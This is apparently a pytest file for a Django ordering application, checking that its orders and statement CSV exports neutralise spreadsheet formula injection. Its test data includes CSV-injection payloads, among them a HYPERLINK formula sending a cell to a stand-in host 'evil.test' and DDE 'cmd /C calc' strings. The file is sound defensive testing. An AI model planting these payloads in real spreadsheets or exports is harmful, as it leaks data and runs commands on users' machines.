"""Spreadsheet exports never carry a formula (OWASP CSV injection).

A cell typed with a formula start (``=``, ``+``, ``-``, ``@``, a tab or a
carriage return) comes back from each export, read with the csv module,
with a leading ``'``: the spreadsheet shows it as text and runs nothing.
Amounts stay numbers.
"""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from ordering.orders.models import Order
from tests.ordering.factories import OrderFactory, placed_order, stocked

# One per character that makes a spreadsheet run a cell.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.test/?"&A1;"Détails")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def read_csv(response) -> list[list[str]]:
    if response.streaming:
        content = b"".join(response.streaming_content)
    else:
        content = response.content
    text = content.decode("utf-8")
    assert text.startswith("\ufeff"), "French Excel needs the byte order mark"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_the_orders_export_neutralises_formulas(
    client, buyer, delivery_address, payload
):
    order = placed_order(buyer, [stocked()], key="k1")
    # As typed, leading tab included (the checkout form would strip it; an
    # order keyed in another channel need not).
    Order.objects.filter(pk=order.pk).update(
        purchase_order_reference=payload[:60], end_customer_name=payload
    )
    client.force_login(buyer)

    rows = read_csv(client.get(reverse("orders_export")))

    header, row = rows
    assert row[header.index("Client final")] == "'" + payload
    assert row[header.index("Votre référence")] == "'" + payload[:60]
    assert row[header.index("Total TTC")] == "29,88"


def _credited(organisation, **fields) -> Order:
    return OrderFactory(
        organisation=None,
        channel=Order.Channel.WEB,
        credited_organisation=organisation,
        credit_rule=Order.CreditRule.TERRITORY,
        commission_rate=Decimal("5.00"),
        payment_method="transfer",
        total_excl_vat=Decimal("100.00"),
        total_vat=Decimal("0"),
        placed_at=timezone.make_aware(datetime(2026, 11, 3, 10, 0)),
        **fields,
    )


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_the_statement_export_neutralises_formulas(
    client, owner, organisation, payload
):
    _credited(organisation, end_customer_name=payload)
    client.force_login(owner)

    rows = read_csv(client.get(reverse("statement_csv") + "?month=2026-11"))

    header, sale, total = rows
    assert sale[header.index("Client")] == "'" + payload
    assert sale[header.index("Commission")] == "5,00"
    assert total[header.index("Total HT")] == "100,00"
